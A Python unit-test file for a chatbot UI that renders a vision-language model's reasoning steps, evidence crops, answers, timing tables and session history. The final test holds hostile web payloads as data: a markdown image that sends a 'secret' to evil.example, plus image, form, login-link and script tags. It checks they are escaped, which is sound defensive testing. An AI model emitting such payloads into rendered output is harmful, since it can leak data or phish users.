"""Unit tests of the UI's pure parts: events -> chat messages, boxes drawn, tables, traces."""
from __future__ import annotations

import json

from PIL import Image

from chatbot import render
from chatbot.sessions import SessionStore, UserSession
from corgi.types import (AnswerReady, Box, CacheStats, Evidence, EvidenceReady, KeyEvidence, Phase,
                         PhaseFinished, PhaseStarted, ReasoningResult, Step, StepKind, StepsParsed,
                         StepStreamed, SynthesisResult, TextDelta, TurnFinished, TurnResult)

OBJECT_BOX = Box(0.1, 0.2, 0.5, 0.8)
TEXT_BOX = Box(0.6, 0.1, 0.9, 0.3)
STEPS = [Step(1, "The car is in the middle.", StepKind.OBJECT, OBJECT_BOX),
         Step(2, "The sign reads STOP.", StepKind.TEXT, TEXT_BOX),
         Step(3, "So the answer is blue.", StepKind.REASONING, None)]
EVIDENCE = [Evidence(1, OBJECT_BOX, StepKind.OBJECT, "a blue car"),
            Evidence(2, TEXT_BOX, StepKind.TEXT, "STOP")]


def turn_result(question="What colour is the car?", misses=1, reused=0, warnings=()):
    return TurnResult(question=question, answer="blue", explanation="The car is blue.", steps=STEPS,
                      evidence=EVIDENCE, key_evidence=[KeyEvidence("the car", OBJECT_BOX)],
                      timings={"reasoning": 1.234, "evidence": 0.5, "synthesis": 0.75, "total": 2.5},
                      raw={"reasoning": "<think>x</think>{...}", "synthesis": '{"answer": "blue"}'},
                      prompts={"reasoning": "PROMPT-R", "evidence": "PROMPT-E", "synthesis": "PROMPT-S"},
                      cache=CacheStats(vision_hits=0, vision_misses=misses, prompt_tokens=900,
                                       prefill_tokens_computed=900 - reused, prefix_tokens_reused=reused,
                                       region_vision_misses=2),
                      warnings=list(warnings))


class FakeClock:
    def __init__(self):
        self.now = 100.0

    def __call__(self):
        return self.now


def full_turn_events(result):
    yield PhaseStarted(Phase.REASONING, "PROMPT-R")
    yield TextDelta(Phase.REASONING, "<think>look")
    yield TextDelta(Phase.REASONING, " at the car</think>")
    yield PhaseFinished(Phase.REASONING, 1.234, "raw")
    yield StepsParsed(ReasoningResult("look at the car", STEPS, ok=True))
    yield PhaseStarted(Phase.EVIDENCE, "PROMPT-E")
    yield TextDelta(Phase.EVIDENCE, "a blue", region=0)
    yield TextDelta(Phase.EVIDENCE, "ST", region=1)
    yield EvidenceReady(EVIDENCE[0], region=0, total=2)
    yield EvidenceReady(EVIDENCE[1], region=1, total=2)
    yield PhaseFinished(Phase.EVIDENCE, 0.5)
    yield PhaseStarted(Phase.SYNTHESIS, "PROMPT-S")
    yield TextDelta(Phase.SYNTHESIS, '{"answer": "blue"}')
    yield PhaseFinished(Phase.SYNTHESIS, 0.75)
    yield AnswerReady(SynthesisResult("blue", "The car is blue.", [KeyEvidence("the car", OBJECT_BOX)], ok=True))
    yield TurnFinished(result)


def phase_messages(messages):
    return {m["metadata"]["id"].split("-", 1)[1]: m for m in messages if m.get("metadata", {}) and
            m["metadata"].get("id")}


# ---- TurnView -------------------------------------------------------------------------

def test_turn_view_shows_a_pending_phase_before_any_event():
    view = render.TurnView("What colour is the car?", 1, max_regions=4)
    user, reasoning = view.messages()
    assert user == {"role": "user", "content": "What colour is the car?"}
    assert reasoning["metadata"]["status"] == "pending"
    assert reasoning["metadata"]["title"] == render.PHASE_TITLES[Phase.REASONING]


def test_turn_view_streams_text_and_closes_each_phase():
    view = render.TurnView("q", 2, max_regions=4)
    events = list(full_turn_events(turn_result()))
    view.apply(events[0])
    assert view.apply(events[1]) == {render.CHAT}
    view.apply(events[2])
    msg = phase_messages(view.messages())["reasoning"]
    assert "<think>look at the car</think>" in msg["content"]      # verbatim, in a code block
    assert msg["content"].startswith("```")
    assert msg["metadata"]["status"] == "pending"

    view.apply(events[3])
    msg = phase_messages(view.messages())["reasoning"]
    assert msg["metadata"]["status"] == "done" and msg["metadata"]["log"] == "1.23 s"

    assert render.BOXES in view.apply(events[4])                  # boxes as soon as steps parse
    msg = phase_messages(view.messages())["reasoning"]
    assert msg["content"].startswith("> look at the car")             # the thinking, quoted
    # The steps are a plain message after the phase: they stay in view when it collapses.
    steps = next(m for m in view.messages() if m["content"].startswith("**Steps**"))
    assert "metadata" not in steps
    assert "**S1** (object, red box): The car is in the middle." in steps["content"]
    assert "**S2** (text, blue box): The sign reads STOP." in steps["content"]
    assert "**S3** (reasoning): So the answer is blue." in steps["content"]

    for event in events[5:8]:
        view.apply(event)
    evidence = phase_messages(view.messages())["evidence"]
    assert evidence["metadata"]["status"] == "pending"
    assert "**S1** sees: a blue ..." in evidence["content"]         # streaming per region
    assert "**S2** reads: ST ..." in evidence["content"]
    assert render.GALLERY in view.apply(events[8])
    evidence = phase_messages(view.messages())["evidence"]
    assert "**S1** sees: a blue car" in evidence["content"]

    for event in events[9:]:
        view.apply(event)
    messages = view.messages()
    assert [m["metadata"]["status"] for m in messages if m.get("metadata")] == ["done"] * 3
    answer = messages[-1]
    assert answer["role"] == "assistant" and "metadata" not in answer
    assert answer["content"].startswith("**blue**") and "The car is blue." in answer["content"]
    assert "- **K1** the car" in answer["content"]          # its box is drawn green, labelled K1
    assert view.result is not None


def test_turn_view_warnings_become_a_collapsed_note():
    view = render.TurnView("q", 1, max_regions=4)
    for event in full_turn_events(turn_result(warnings=["box 1 was repaired"])):
        view.apply(event)
    note = view.messages()[-1]
    assert note["metadata"]["title"] == "Notes (1)" and note["metadata"]["status"] == "done"
    assert "box 1 was repaired" in note["content"]


def test_unreadable_steps_and_answer_show_the_raw_text():
    view = render.TurnView("q", 1, max_regions=4)
    view.apply(PhaseStarted(Phase.REASONING, "p"))
    view.apply(TextDelta(Phase.REASONING, "no json here"))
    view.apply(PhaseFinished(Phase.REASONING, 0.1))
    view.apply(StepsParsed(ReasoningResult("", [], ok=False)))
    view.apply(PhaseStarted(Phase.EVIDENCE, ""))
    view.apply(PhaseFinished(Phase.EVIDENCE, 0.0))
    view.apply(AnswerReady(SynthesisResult("just words", "", [], ok=False)))
    phases = phase_messages(view.messages())
    assert "no json here" in phases["reasoning"]["content"]
    assert "could be read" in phases["reasoning"]["content"]
    assert "nothing to look at" in phases["evidence"]["content"]
    assert view.messages()[-1]["content"] == "just words"


def test_an_interrupted_turn_closes_its_pending_phase_with_a_notice():
    clock = FakeClock()
    view = render.TurnView("q", 1, max_regions=4, clock=clock)
    view.apply(PhaseStarted(Phase.REASONING, "p"))
    view.apply(TextDelta(Phase.REASONING, "half"))
    clock.now += 2.5
    assert view.live_seconds() == {"reasoning": "2.5..."}
    view.end("Stopped.")
    messages = view.messages()
    reasoning = phase_messages(messages)["reasoning"]
    assert reasoning["metadata"]["status"] == "done"
    assert reasoning["metadata"]["title"].endswith("(interrupted)")
    assert messages[-1] == {"role": "assistant", "content": "Stopped."}
    assert view.live_seconds() == {}


def test_code_block_cannot_be_closed_by_the_text_inside():
    block = render.code_block("a ``` b ```` c")
    fence = block.split("text", 1)[0]
    assert fence == "`````"
    assert block.endswith("\n" + fence)


# ---- boxes ------------------------------------------------------------------------------

def test_boxes_are_drawn_at_the_right_pixels_in_the_kind_colour():
    image = Image.new("RGB", (200, 100), "white")
    out = render.draw_boxes(image, STEPS)
    assert image.getpixel((20, 50)) == (255, 255, 255), "the input image must stay untouched"
    # Object box (0.1, 0.2, 0.5, 0.8) -> pixels x 20..99, y 20..79: left, right and bottom edges.
    red, blue = render.COLOURS[StepKind.OBJECT], render.COLOURS[StepKind.TEXT]
    assert out.getpixel((20, 50)) == red
    assert out.getpixel((99, 50)) == red
    assert out.getpixel((60, 79)) == red
    assert out.getpixel((60, 50)) == (255, 255, 255), "inside the box stays clear"
    assert out.getpixel((60, 85)) == (255, 255, 255), "just below the box stays clear"
    # Text box (0.6, 0.1, 0.9, 0.3) -> x 120..179, y 10..29: its right edge is blue.
    assert out.getpixel((179, 20)) == blue
    # The S1 tag is a filled block of the box colour touching its top-left corner.
    assert out.getpixel((21, 18)) in (red, (255, 255, 255))
    tag = [out.getpixel((x, y)) for x in range(20, 40) for y in range(0, 20)]
    assert tag.count(red) > 40 and (255, 255, 255) in tag


def test_reasoning_steps_draw_nothing():
    image = Image.new("RGB", (50, 50), "white")
    out = render.draw_boxes(image, [STEPS[2]])
    assert out.getcolors() == [(2500, (255, 255, 255))]


def test_gallery_items_are_captioned_crops():
    image = Image.new("RGB", (200, 100), "white")
    items = render.gallery_items([image], EVIDENCE, padding=0.0)
    assert [caption for _, caption in items] == ["S1 sees: a blue car", "S2 reads: STOP"]
    assert items[0][0].size == (80, 60)


# ---- timings, debug, trace ---------------------------------------------------------------

def table_column(table, name):
    index = table["headers"].index(name)
    return {row[0]: row[index] for row in table["data"]}


def test_timings_table_has_one_column_per_turn_and_a_live_one():
    clock = FakeClock()
    live = render.TurnView("q3", 3, max_regions=4, clock=clock)
    live.apply(PhaseStarted(Phase.REASONING, "p"))
    live.apply(PhaseFinished(Phase.REASONING, 0.4))
    live.apply(PhaseStarted(Phase.EVIDENCE, "p"))
    clock.now += 0.25
    table = render.timings_table((CacheStats(vision_misses=1, prompt_tokens=136, prefill_tokens_computed=136), 0.8),
                                 [turn_result(misses=0), turn_result(misses=0, reused=700)], live)
    assert table["headers"] == ["metric", "image", "turn 1", "turn 2", "turn 3"]
    image, turn2, turn3 = (table_column(table, n) for n in ("image", "turn 2", "turn 3"))
    assert image["vision misses"] == 1 and image["total s"] == 0.8 and image["prefill computed"] == 136
    assert turn2["vision misses"] == 0 and turn2["prefix reused"] == 700 and turn2["reasoning s"] == 1.23
    assert turn2["region crops encoded"] == 2
    assert turn3["reasoning s"] == 0.4 and turn3["evidence s"] == "0.2..." and turn3["vision misses"] == ""
    assert render.timings_table(None, [])["data"] == []


def test_trace_is_the_cli_json():
    results = [turn_result(), turn_result("And the sign?")]
    model = {"id": "tiny-qwen2.5-vl", "family": "qwen2.5-vl", "dtype": "float32", "device": "cpu"}
    trace = render.trace(model, results)
    assert trace == {"model": model, "turns": [r.to_json() for r in results]}
    json.dumps(trace)
    debug = render.debug_json(results)
    assert debug["turn 2"]["question"] == "And the sign?"
    assert debug["turn 1"]["prompts"]["synthesis"] == "PROMPT-S"
    text = render.debug_text(results)
    assert text.startswith("######## turn 2: And the sign?")
    assert text.index("PROMPT-R") < text.index("==== reasoning output ====") < text.index("PROMPT-S")


# ---- per-tab sessions ------------------------------------------------------------------------

class FakeChat:
    def __init__(self):
        self.undone, self.closed = 0, False

    def undo_last_turn(self):
        self.undone += 1

    def close(self):
        self.closed = True


def test_session_keeps_history_and_regenerate_drops_the_last_turn():
    session = UserSession("k")
    session.chat = FakeChat()
    for question in ("one", "two"):
        view = render.TurnView(question, 1, 4)
        session.begin_turn(view)
        for event in full_turn_events(turn_result(question)):
            view.apply(event)
        assert session.results[-1].question == question     # visible before the turn is moved
        session.end_turn()
    assert [r.question for r in session.results] == ["one", "two"]
    n_one = len(session.history) // 2
    assert session.latest_steps() == STEPS
    turn = session.drop_last_turn()
    assert turn.question == "two" and session.chat.undone == 1
    assert len(session.history) == n_one and session.history[0]["content"] == "one"


def test_a_stopped_turn_stays_in_the_chat_but_not_in_the_results():
    session = UserSession("k")
    session.chat = FakeChat()
    view = render.TurnView("q", 1, 4)
    session.begin_turn(view)
    view.end("Stopped.")
    session.end_turn()
    assert session.results == [] and session.history[-1]["content"] == "Stopped."
    session.drop_last_turn()
    assert session.chat.undone == 0 and session.history == []


def test_close_frees_the_chat_unless_a_turn_holds_the_lock():
    session = UserSession("k")
    chat = session.chat = FakeChat()
    with session.lock:
        session.close()
        assert not chat.closed and session.closed    # the running turn finishes the job
    session.close()
    assert chat.closed and session.chat is None


def test_store_reuses_sessions_and_evicts_the_least_recently_used():
    store = SessionStore(max_sessions=2)
    a = store.get("a")
    a.chat = FakeChat()
    assert store.get("a") is a
    store.get("b")
    store.get("c")
    assert a.closed and a.chat is None and len(store) == 2
    assert store.get("a") is not a                           # a closed session is replaced
    store.close("a")                                          # "b" was evicted by the new "a"
    assert len(store) == 1



def test_streamed_steps_show_as_lines_and_boxes_before_the_phase_ends():
    from corgi.types import StepStreamed
    view = render.TurnView("q", 1, max_regions=4)
    step = Step(1, "The <b>car</b> is here.", StepKind.OBJECT, Box(0.1, 0.1, 0.5, 0.5))
    view.apply(PhaseStarted(Phase.REASONING, ""))
    assert render.BOXES in view.apply(StepStreamed(step))
    assert view.steps == [step]                                       # drawn before StepsParsed
    msg = phase_messages(view.messages())["reasoning"]
    assert "**S1** (object, red box): The &lt;b&gt;car&lt;/b&gt; is here." in msg["content"]
    assert "{" not in msg["content"]                                  # no raw JSON in the chat


def test_a_twin_answer_says_it_is_noise():
    result = turn_result()
    view = render.TurnView("q", 1, max_regions=4, note=render.NOISE_NOTE)
    for event in full_turn_events(result):
        view.apply(event)
    answer = [m for m in view.messages() if m["content"].startswith("**blue**")][0]
    assert "noise" in answer["content"] and "Qwen/Qwen2.5-VL-3B-Instruct" in answer["content"]


def test_big_images_are_drawn_at_display_size_and_labels_do_not_overlap():
    image = Image.new("RGB", (4000, 3000), "white")
    steps = [Step(i, "s", StepKind.OBJECT, Box(0.1, 0.1 + 0.001 * i, 0.3, 0.3)) for i in range(1, 4)]
    out = render.draw_boxes(image, steps)
    assert max(out.size) == render.DISPLAY_LONG_SIDE and out.size == (1600, 1200)
    red = [(x, y) for x in range(0, 1600, 2) for y in range(0, 1200, 2) if out.getpixel((x, y)) == (220, 38, 38)]
    assert red
    crops = render.gallery_items([image], [Evidence(1, Box(0.0, 0.0, 1.0, 1.0), StepKind.OBJECT, "x")], 0.25)
    assert max(crops[0][0].size) <= render.CROP_LONG_SIDE


def test_two_images_side_by_side_and_a_click_picks_the_box_under_it():
    """The boxes panel of a two-image turn: both images at one height, each with its own boxes;
    a click maps back through the tiles to the smallest step box under it, on the right image."""
    wide, tall = Image.new("RGB", (800, 400), "white"), Image.new("RGB", (300, 600), "white")
    steps = [Step(1, "car", StepKind.OBJECT, Box(0.0, 0.0, 0.5, 0.5, image=0)),
             Step(2, "wheel", StepKind.OBJECT, Box(0.1, 0.1, 0.2, 0.2, image=0)),
             Step(3, "total", StepKind.TEXT, Box(0.5, 0.5, 1.0, 1.0, image=1)),
             Step(4, "so", StepKind.REASONING)]
    picture, tiles = render.boxes_view([(0, wide), (1, tall)], steps, highlight=3)
    assert [t.image for t in tiles] == [0, 1] and tiles[0].height == tiles[1].height == picture.height
    assert tiles[1].x > tiles[0].x + tiles[0].width - 1 and max(picture.size) <= render.DISPLAY_LONG_SIDE
    first, second = tiles
    assert render.step_at(tiles, steps, first.x + 0.15 * first.width, 0.15 * first.height) == 2   # smallest
    assert render.step_at(tiles, steps, first.x + 0.4 * first.width, 0.4 * first.height) == 1
    assert render.step_at(tiles, steps, second.x + 0.75 * second.width, 0.75 * second.height) == 3
    assert render.step_at(tiles, steps, second.x + 0.25 * second.width, 0.25 * second.height) is None
    # The highlighted step's box is shaded (blue tint inside it), the others are not.
    x, y = second.x + int(0.75 * second.width), int(0.75 * second.height)
    r, g, b = picture.getpixel((x, y))
    assert b > r + 20, (r, g, b)
    assert picture.getpixel((first.x + int(0.3 * first.width), int(0.3 * first.height))) == (255, 255, 255)


def test_model_text_is_shown_as_text_never_as_markup():
    """Text a model writes (or reads out of an image) could carry a remote image that loads
    with no click, a fake login form or a link: every piece of it that reaches the chat or the
    side panel is escaped. Checked on a whole turn's messages, markdown-rendered as Gradio does."""
    from markdown_it import MarkdownIt       # CommonMark with raw HTML on: the worst case for us
    md = MarkdownIt("commonmark", {"html": True})
    payloads = ["![x](http://evil.example/x?secret=1)", "<img src=http://evil.example/y>",
                "<form><input type=password></form>", "<a href=http://evil.example>login</a>",
                "<script>alert(1)</script>", "[login](http://evil.example/z)", "<http://evil.example/w>"]
    hostile = " ".join(payloads)
    steps = [Step(1, hostile, StepKind.OBJECT, Box(0.1, 0.1, 0.5, 0.5)), Step(2, hostile, StepKind.REASONING)]
    view = render.TurnView(hostile, 1, max_regions=4)
    view.apply(PhaseStarted(Phase.REASONING, "p"))
    view.apply(StepStreamed(steps[0]))
    view.apply(StepsParsed(ReasoningResult(hostile, steps, ok=True)))
    view.apply(PhaseFinished(Phase.REASONING, 0.1))
    view.apply(PhaseStarted(Phase.EVIDENCE, "p"))
    view.apply(EvidenceReady(Evidence(1, steps[0].bbox, StepKind.OBJECT, hostile), region=0, total=1))
    view.apply(PhaseFinished(Phase.EVIDENCE, 0.1))
    view.apply(AnswerReady(SynthesisResult(hostile, hostile, [KeyEvidence(hostile, steps[0].bbox)], ok=True)))
    view.apply(PhaseStarted(Phase.SYNTHESIS, "p"))
    view.apply(PhaseFinished(Phase.SYNTHESIS, 0.1))
    texts = [m["content"] for m in view.messages()]
    texts.append(render.answer_markdown(SynthesisResult(hostile + "\n" + hostile, "", [], ok=False)))
    texts.append(render.selected_markdown(steps[0], [Evidence(1, steps[0].bbox, StepKind.OBJECT, hostile)]))
    for text in texts:
        html_out = md.render(text)
        for tag in ("<img", "<form", "<input", "<a ", "<script"):
            assert tag not in html_out, (tag, text)
    assert any("evil.example" in t for t in texts)          # shown, as text
